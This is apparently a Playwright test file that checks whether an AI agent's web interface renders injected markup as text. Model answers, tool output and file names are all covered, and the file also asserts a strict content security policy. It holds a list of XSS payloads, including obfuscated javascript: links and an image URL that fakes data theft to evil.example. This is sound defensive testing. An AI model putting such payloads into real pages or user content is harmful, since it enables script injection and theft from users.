import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { say, untilIdle, withBrowser } from '../support/browser.ts'

const SCRIPT = '<script>window.harm = 1</script>'
const HANDLER = '<img src=x onerror="window.harm = 1">'
const attacks = [
  SCRIPT,
  HANDLER,
  '<svg onload="window.harm=1"></svg>',
  '<iframe srcdoc="<script>parent.harm=1</script>"></iframe>',
  '<a href="javascript:window.harm=1">html link</a>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<style>body{display:none}</style>',
  '[one](javascript:window.harm=1)',
  '[two](JaVaScRiPt:window.harm=1)',
  '[three](java&#115;cript:window.harm=1)',
  '[four](&#x6A;avascript:window.harm=1)',
  '[five](data:text/html,<script>window.harm=1</script>)',
  '[six](vbscript:x)',
  '[seven]( javascript:window.harm=1)',
  '![picture](https://evil.example/steal.png?secret=1)',
  '![picture](javascript:window.harm=1)',
  '<javascript:window.harm=1>',
  '[reference][r]\n\n[r]: javascript:window.harm=1',
  '```html\n<script>window.harm = 1</script>\n```',
  '`<script>window.harm = 1</script>`',
]

describe('injection through model, tool and file text', () => {
  const { server, start, open, forgive } = withBrowser()

  /** Checks that no script ran, no foreign URL was requested, and no element was injected. */
  async function isUnharmed(page: Page, asked: readonly string[]): Promise<void> {
    await page.waitForTimeout(200)
    const found = await page.evaluate(() => ({
      harm: 'harm' in globalThis,
      elements: document.querySelectorAll('#page :is(script, iframe, object, embed, style, img[src^="http"])')
        .length,
      handlers: [...document.querySelectorAll('#page *')].filter((element) =>
        [...element.attributes].some(({ name }) => name.startsWith('on')),
      ).length,
      links: [...document.querySelectorAll('#page a')]
        .map((link) => link.getAttribute('href') ?? '')
        .filter((href) => !/^(https?:\/\/|mailto:|\/|#)/.test(href)),
      isShown: getComputedStyle(document.body).display !== 'none',
    }))
    expect(found).toEqual({ harm: false, elements: 0, handlers: 0, links: [], isShown: true })
    expect(asked.filter((url) => !url.startsWith(server().url))).toEqual([])
  }

  function requestsOf(page: Page): string[] {
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    return asked
  }

  it('[P5] enforces a strict content policy', async () => {
    const answer = await fetch(server().url)
    const policy = answer.headers.get('content-security-policy') ?? ''
    for (const part of [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "connect-src 'self'",
      "img-src 'self' data:",
      "require-trusted-types-for 'script'",
      "trusted-types 'none'",
      "base-uri 'none'",
      "form-action 'self'",
      "frame-ancestors 'none'",
    ]) {
      expect(policy).toContain(part)
    }
    expect(policy).not.toContain('unsafe')
    const page = await open()
    await page.getByRole('heading', { name: 'What should the agent do?' }).waitFor()
    // Even injected markup can't become HTML.
    const refused = await page.evaluate(() => {
      const element = document.createElement('div')
      try {
        element.innerHTML = '<img src=x onerror="window.harm=1">'
        return false
      } catch {
        return true
      }
    })
    expect(refused).toBe(true)
    forgive(/TrustedHTML/)
  })

  it('[P5] renders attacks in an answer as text, in every Markdown form', async () => {
    const { page } = await start('Answers')
    const asked = requestsOf(page)
    await say(page, `!say ${JSON.stringify(attacks.join('\n\n'))}`)
    await untilIdle(page)
    const answer = page.locator('.answer')
    await answer.getByText(SCRIPT).first().waitFor()
    await answer.getByText('one', { exact: true }).waitFor()
    for (const name of ['one', 'two', 'three', 'four', 'five', 'six', 'seven', 'reference']) {
      expect(await answer.getByRole('link', { name, exact: true }).count()).toBe(0)
    }
    for (const name of ['one', 'three', 'five']) await answer.getByText(name, { exact: true }).click()
    await isUnharmed(page, asked)
  })

  it('[P5] renders attacks in a user message and a title as text', async () => {
    const { page } = await start(HANDLER)
    const asked = requestsOf(page)
    await say(page, `${SCRIPT}\n${HANDLER}\n[one](javascript:window.harm=1)`)
    await untilIdle(page)
    await page.locator('.said', { hasText: SCRIPT }).waitFor()
    await isUnharmed(page, asked)
  })

  it('[P5] renders attacks in tool arguments, tool output, file names and file contents as text', async () => {
    const { page } = await start('Tools')
    const asked = requestsOf(page)
    const name = `${HANDLER.replaceAll('/', '')}.txt`
    writeFileSync(join(server().config.project, name), `${SCRIPT}\n`)
    await say(
      page,
      [
        `!read_file ${JSON.stringify({ path: name })}`,
        `!write_to_file ${JSON.stringify({ path: `new ${name}`, content: `${SCRIPT}\n${HANDLER}\n` })}`,
        `!no_such_tool ${JSON.stringify({ html: SCRIPT })}`,
        '!list_files {}',
      ].join('\n'),
    )
    await untilIdle(page)
    const folded = page.locator('.tool > .fold[aria-expanded="false"]')
    while ((await folded.count()) > 0) await folded.first().click()
    await page.locator('.tool pre', { hasText: SCRIPT }).first().waitFor()
    await isUnharmed(page, asked)

    await page.getByRole('link', { name: 'Changes', exact: true }).click()
    await page
      .locator('.changed-file', { hasText: HANDLER.slice(0, 10) })
      .first()
      .waitFor()
    await isUnharmed(page, asked)
    await page.getByRole('link', { name: 'Timeline', exact: true }).click()
    await page.locator('.paths button').first().click()
    await page.locator('.file-then').waitFor()
    await isUnharmed(page, asked)
    await page.getByRole('link', { name: 'Context', exact: true }).click()
    await page.getByRole('button', { name: 'Full request' }).click()
    await page.locator('.body').waitFor()
    await isUnharmed(page, asked)
  })
})
